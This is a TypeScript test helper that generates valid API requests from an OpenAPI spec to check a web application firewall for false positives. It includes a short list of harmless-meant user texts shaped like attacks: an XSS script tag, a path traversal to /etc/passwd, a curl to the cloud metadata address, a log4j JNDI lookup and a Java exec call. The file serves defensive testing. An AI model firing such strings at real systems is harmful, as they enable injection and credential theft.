import openApi from '@taskyard/contracts/openapi.json' with { type: 'json' };
import { largestValue, longestJson, type Schema } from './largest-value.ts';
import type { WafRequest } from './managed-rules.ts';

interface Operation {
  readonly parameters?: readonly { readonly in: string; readonly name: string; readonly schema: Schema }[];
  readonly requestBody?: { readonly content: Readonly<Record<string, { readonly schema: Schema }>> };
}

/** Texts that people write in tasks and search for, and that look like attacks. */
const textsThatLookLikeAttacks = [
  '<script>alert(1)</script> in the title?',
  'cat ../../etc/passwd',
  'open http://192.0.2.7/report',
  'curl http://169.254.169.254/latest/meta-data',
  `Update log4j: \${jndi:ldap://a.example}`,
  '(java.lang.Runtime).getRuntime().exec("id")',
  'look at backup.log',
];

/** Requests that the API accepts: of each operation the largest one, and one with each of those texts wherever it fits. */
export function validRequests(): WafRequest[] {
  return operations().flatMap(({ name, operation }) =>
    [undefined, ...textsThatLookLikeAttacks].map((text): WafRequest => {
      const query = (operation.parameters ?? [])
        .filter((parameter) => parameter.in === 'query')
        .map((parameter) => `${parameter.name}=${encodeURIComponent(String(largestValue(parameter.schema, text)))}`)
        .join('&');
      const schema = operation.requestBody?.content['application/json']?.schema;
      const body = schema === undefined ? '' : longestJson(largestValue(schema, text));
      return { what: `${name} ${text ?? '(largest)'}`, userAgent: undefined, query, body };
    }),
  );
}

/** Every operation, with the schemas of its bodies. */
export function operations(): { name: string; operation: Operation }[] {
  const paths = resolve(openApi.paths) as Readonly<Record<string, Readonly<Record<string, Operation>>>>;
  return Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) => ({ name: `${method} ${path}`, operation })),
  );
}

/** The document with the schemas in place of references to them. */
function resolve(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(resolve);
  if (typeof value !== 'object' || value === null) return value;
  if ('$ref' in value) {
    const name = String(value.$ref).split('/').at(-1) ?? '';
    const schemas: Readonly<Record<string, unknown>> = openApi.components.schemas;
    return resolve(schemas[name]);
  }
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, resolve(inner)]));
}
